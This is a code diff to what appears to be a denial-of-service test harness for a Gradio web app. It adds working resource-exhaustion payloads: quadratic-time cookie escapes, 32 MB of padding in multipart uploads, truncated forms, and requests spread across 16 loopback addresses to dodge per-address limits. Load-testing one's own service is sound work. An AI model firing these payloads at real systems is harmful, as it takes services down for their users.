@@ -50,9 +50,9 @@ KINDS = ("/healthz", "document", "file", "analysis")
 class Attacker:
     """The first visitor; sends each kind of request many times at once."""
 
-    def __init__(self, url: str) -> None:
+    def __init__(self, url: str, address: str = FIRST) -> None:
         transport = httpx.HTTPTransport(
-            local_address=FIRST, limits=httpx.Limits(max_connections=None)
+            local_address=address, limits=httpx.Limits(max_connections=None)
         )
         self.client = httpx.Client(base_url=url, timeout=PATIENCE, transport=transport)
         self.sent = 0
@@ -135,6 +135,7 @@ def form(parts: int, name: str, size: int) -> bytes:
     )
 
 
+UPLOAD, OF_X = "/gradio_api/upload", {"Content-Type": "multipart/form-data; boundary=x"}
 STREAM = b"GET /gradio_api/heartbeat/NUMBER HTTP/1.1\r\nHost: localhost\r\n\r\n"
 
 
@@ -232,6 +233,36 @@ def questions(first: Attacker) -> None:
     first.many(96, 32, send)
 
 
+def cookies(first: Attacker) -> None:
+    """Python before 3.11.10 unquotes them in quadratic time."""
+    cookie = {"Cookie": 'a="' + "\\1" * 15_000 + '"'}
+    first.many(20, 10, lambda _: first.client.get("/", headers=cookie))
+
+
+def padding(first: Attacker) -> None:
+    """Forms whose parser walks over 32 MB of spaces after a boundary, one by one."""
+    body = b'--x\r\nContent-Disposition: form-data; name="files"\r\n\r\n\r\n--x' + b" " * 32_000_000
+    first.many(8, 8, lambda _: first.client.post(UPLOAD, content=body, headers=OF_X))
+
+
+def broken_forms(first: Attacker) -> None:
+    """Forms for a question, which end within a file."""
+    path = "/gradio_api/component_server"
+    body = b'--x\r\nContent-Disposition: form-data; name="a"; filename="a"\r\n\r\nleft'
+    first.many(40, 10, lambda _: first.client.post(path, content=body, headers=OF_X))
+
+
+def sixteen_addresses(first: Attacker) -> None:
+    """Explanations of several seconds each, of as many addresses at a time."""
+    visitors = [Attacker(str(first.client.base_url), f"127.0.0.{16 + n}") for n in range(16)]
+    asked = {"data": ["dog", "photos", "occlusion"]}
+
+    def send(number: int) -> httpx.Response:
+        return visitors[number % 16].client.post("/gradio_api/run/explain", json=asked)
+
+    first.many(32, 32, send)
+
+
 ATTACKS: dict[str, Callable[[Attacker], None]] = {
     "language tags of 30 and 60 kB": language_tags,
     "JPEG of 1,000 scans": slow_jpegs,
@@ -246,6 +277,10 @@ ATTACKS: dict[str, Callable[[Attacker], None]] = {
     "wrong passwords": passwords,
     "60 analyses at once": full_queue,
     "questions that compute": questions,
+    "cookies of 15,000 escapes": cookies,
+    "32 MB of spaces after a boundary": padding,
+    "forms that break off": broken_forms,
+    "explanations of 16 addresses": sixteen_addresses,
 }
 
 
